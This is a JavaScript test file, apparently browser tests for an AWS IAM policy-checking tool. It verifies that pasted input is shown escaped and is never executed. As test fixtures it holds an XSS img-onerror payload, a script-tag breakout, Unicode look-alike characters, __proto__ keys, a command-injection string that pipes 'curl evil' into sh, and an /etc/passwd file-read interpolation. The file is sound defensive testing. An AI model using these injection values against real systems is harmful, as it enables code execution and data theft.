/** Names that want to be markup, code or something that they are not. */

import { EMPTY_POLICY, definition, passing, policy } from "../harness/documents.mjs";
import { eventually, expect, test } from "../harness/test.mjs";

const MARKUP = `<img src=x onerror="globalThis.ran = true; alert(1)">`;

async function openWithoutDialogs(open) {
  const checker = await open({ clipboard: true });
  const dialogs = [];
  checker.page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  return { checker, dialogs };
}

/** Nothing of a pasted text has become an element or ran. */
async function isUntouched({ frame }, dialogs) {
  await expect(frame.locator("img, iframe, a:not([data-testid]), b[onclick], [onerror], #app script")).toHaveCount(0);
  await eventually(() => frame.evaluate(() => globalThis.ran)).toBe(undefined);
  expect(dialogs).toStrictEqual([]);
}

test("markup in names is shown as text", async ({ open }) => {
  const { checker, dialogs } = await openWithoutDialogs(open);
  const { results } = checker;
  const role = `arn:aws:iam::111122223333:role/${MARKUP}`;
  await checker.machine.paste(definition({ [MARKUP]: passing(role), "</code><script>ran=1</script>": passing(MARKUP) }));
  await checker.policy.paste(
    policy({ Sid: MARKUP, Effect: MARKUP, Action: MARKUP, Resource: MARKUP, Principal: { AWS: MARKUP } }),
  );
  await checker.pasteRelated(
    `User: arn:aws:iam::111122223333:role/${MARKUP} is not authorized to perform: iam:PassRole on resource: ${MARKUP}`,
  );
  await checker.set({ executionRole: MARKUP, stateMachineArn: MARKUP, account: MARKUP, region: MARKUP });
  await expect(results.checks).not.toHaveCount(0);
  await eventually(() => results.notices.allInnerTexts().then(String)).toMatch(/<img src=x onerror=/);
  await expect(results.list).toHaveText(/<\/code><script>ran=1<\/script>/);
  await isUntouched(checker, dialogs);

  // The sentences under the underlined places are made elsewhere.
  await checker.policy.focus();
  await checker.keyboard.press("F8");
  await checker.policy.selects(/./);
  await isUntouched(checker, dialogs);
});

test("characters that deceive are written out", async ({ open }) => {
  const { checker } = await openWithoutDialogs(open);
  const { fixes, results } = checker;
  const names = { "pay\u202eroll": "\\u{202e}", "re\u200bport": "\\u{200b}", "rep\u043ert": "\\u{43e}" };
  const role = "arn:aws:iam::111122223333:role/\u202enimda";
  await checker.machine.paste(definition(Object.fromEntries(Object.keys(names).map((name) => [name, passing(role)]))));
  await checker.policy.paste(EMPTY_POLICY);
  await expect(results.checks).toHaveCount(3);
  for (const escaped of Object.values(names)) {
    await expect(results.all).toContainText(escaped);
  }
  await expect(results.all).not.toHaveText(/[\u202e\u200b\u043e]/);
  await eventually(() => results.codes()).toContain("look-alike-characters");
  await eventually(() => fixes.statements.allTextContents().then(String)).not.toMatch(/nimda/);
});

test("__proto__ is a name like any other", async ({ open }) => {
  const { checker } = await openWithoutDialogs(open);
  const role = "arn:aws:iam::111122223333:role/__proto__";
  await checker.machine.paste(definition({ constructor: passing(role), ["__proto__"]: passing(role) }));
  await checker.policy.paste(
    `{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*", "Condition": {"StringEquals": {"__proto__": "x"}}}]}`,
  );
  await checker.verdict("missing", /2 permissions/);
  await expect(checker.results.list).toHaveText(/constructor[^]*__proto__/);
  await eventually(() => checker.fixes.statement().then(({ Resource }) => Resource)).toBe(role);
  await eventually(() => checker.frame.evaluate(() => ({}).ran)).toBe(undefined);
});

test("neither commands nor wildcards get into a statement", async ({ open }) => {
  const { checker } = await openWithoutDialogs(open);
  const { fixes, results } = checker;
  await checker.policy.paste(EMPTY_POLICY);
  for (const role of [
    "x;curl evil|sh",
    "arn:aws:iam::111122223333:role/x;curl evil|sh",
    "*",
    "arn:aws:iam::111122223333:role/*",
    "arn:aws:iam::*:role/admin",
    'arn:aws:iam::111122223333:role/${file("/etc/passwd")}',
  ]) {
    await checker.machine.paste(definition({ Run: passing(role) }));
    await checker.verdict("missing");
    await expect(results.checks).toContainText(role);
    await expect(fixes.all).toHaveCount(1);
    const copied = await fixes.copy();
    expect(copied, role).not.toMatch(/curl|passwd|\|/);
    expect(JSON.parse(copied).Resource, role).not.toMatch(/[*?;|"$ ]/);
    await expect(fixes.placeholders, "it says what to fill in").toBeVisible();
  }
});

test("the deepest document that can be read, and one beyond, fit on the stack", async ({ open }) => {
  const { checker } = await openWithoutDialogs(open);
  const { results } = checker;
  await checker.machine.paste(definition({ Run: passing("arn:aws:iam::111122223333:role/app") }));
  for (const levels of [250, 500, 600, 5_000]) {
    await checker.policy.paste(`{"Statement": ${"[".repeat(levels)}${"]".repeat(levels)}}`);
    const isTooDeep = () => results.codes().then((codes) => codes.includes("json-too-deep"));
    await eventually(isTooDeep, `${levels} levels are too deep`).toBe(levels > 512);
    // The editor looks at it too, when typing pauses.
    await expect(checker.policy.formatButton).toHaveAttribute("title", levels > 512 ? /nested too deep/ : /^Format JSON/);
  }
  await eventually(() => checker.frame.evaluate(() => globalThis.sfnHost.wasRestarted())).toBe(false);
});
